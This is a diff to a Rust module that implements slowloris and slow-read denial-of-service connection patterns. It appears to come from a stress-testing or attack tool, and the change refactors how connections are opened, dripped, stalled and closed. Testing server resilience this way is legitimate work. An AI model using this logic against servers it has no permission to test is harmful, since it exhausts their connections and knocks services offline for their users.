@@ -1,7 +1,6 @@
 //! The kinds that hold a generic target up: slowloris (a partial request dripped) and
 //! slow-read (requests whose replies are never read).
 
-use std::sync::atomic::AtomicU64;
 use std::sync::Arc;
 use std::time::Duration;
 
@@ -11,7 +10,7 @@ use tokio::time::Instant;
 
 use super::super::net::abort;
 use super::super::run::{run_slots, Counts, Env, WriteEnd};
-use super::{open, write_or_closed, Sink, Wire};
+use super::{open, run_drained, Wire};
 
 /// Between slow-read's requests once `requests_per_conn` are out.
 const TRICKLE: Duration = Duration::from_millis(250);
@@ -30,29 +29,23 @@ pub(super) async fn slowloris(
 ) {
     let (head, filler) = wire.partial(declared_len);
     let (head, filler) = (Arc::new(head), Arc::new(filler));
-    run_slots(&env, move |env, slot| {
+    run_drained(&env, move |env, mut slot| {
         let (head, filler) = (Arc::clone(&head), Arc::clone(&filler));
         async move {
-            let mut rng = env.rng(slot as u64);
-            let mut n = slot;
+            let mut n = 0usize;
             while env.live() {
                 // Half the connections stop once the partial request is out.
                 let stall = n % 2 == 1 || filler.is_empty();
                 n = n.wrapping_add(1);
-                let Some((stream, _)) = open(&env, &mut rng).await else {
+                let Some(mut conn) = slot.open().await else {
                     break;
                 };
-                let opened = Instant::now();
-                let (rd, mut wr) = stream.into_split();
-                let sink = Sink::spawn(&env, rd, Arc::new(AtomicU64::new(0)));
-                env.merge(&Counts::from([(
-                    if stall {
-                        "stall connections"
-                    } else {
-                        "drip connections"
-                    },
-                    1,
-                )]));
+                let label = if stall {
+                    "stall connections"
+                } else {
+                    "drip connections"
+                };
+                env.merge(&Counts::from([(label, 1)]));
                 let mut sent = 0usize;
                 loop {
                     let byte = if sent < head.len() {
@@ -66,25 +59,19 @@ pub(super) async fn slowloris(
                     };
                     let Some(byte) = byte else {
                         // Stalled: hold until the server gives up or the attack ends.
-                        tokio::select! {
-                            _ = sink.closed.cancelled() => {}
-                            _ = env.halt.cancelled() => {}
-                        }
+                        conn.wait(&env, None).await;
                         break;
                     };
-                    if !write_or_closed(&env, &mut wr, &[byte], 0, &sink.closed).await {
+                    if !conn.write(&env, &[byte], 0).await {
                         break;
                     }
                     sent += 1;
-                    tokio::select! {
-                        _ = tokio::time::sleep(interval) => {}
-                        _ = sink.closed.cancelled() => break,
-                        _ = env.halt.cancelled() => break,
+                    conn.wait(&env, Some(interval)).await;
+                    if !env.live() || !conn.is_open() {
+                        break;
                     }
                 }
-                drop(wr);
-                sink.finish(Duration::from_millis(100)).await;
-                env.pace(opened, &mut rng).await;
+                slot.close(conn, Duration::from_millis(100)).await;
             }
         }
     })
